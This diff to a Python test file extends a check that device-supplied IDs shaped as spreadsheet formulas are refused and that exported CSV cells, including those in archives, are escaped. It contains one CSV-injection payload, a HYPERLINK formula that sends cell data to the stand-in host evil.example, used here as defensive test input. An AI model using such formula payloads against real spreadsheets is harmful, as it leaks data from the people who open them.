@@ -242,7 +242,7 @@ def test_2_a_stranger_stores_nothing_under_a_project_and_learns_no_batch_ids(
 
 
 def test_3_ids_shaped_as_formulas_are_refused_and_csv_cells_from_devices_are_escaped(
-    site: Site,
+    site: Site, tmp_path: Path
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     body = _ENC.encode(
@@ -267,6 +267,16 @@ def test_3_ids_shaped_as_formulas_are_refused_and_csv_cells_from_devices_are_esc
     assert len(cells) == 1 and "evil.example" not in csv.text
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
     assert "'=1+2" in csv.text
+    if TOOLS:  # the archive's spreadsheets too, and it still checks with the standard tools
+        archive, key = site.export(PROJECT, tmp_path)
+        top = _archive_checks(archive, key, tmp_path / "x")
+        sheets = sorted((top / "csv").glob("*.csv"))
+        assert sheets
+        for sheet in sheets:
+            text = sheet.read_text()
+            assert "evil.example" not in text
+            rows = list(csv_module.reader(io.StringIO(text)))[1:]
+            assert all(not c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
 
 
 def test_4_ids_from_devices_are_checked_for_shape(site: Site) -> None:
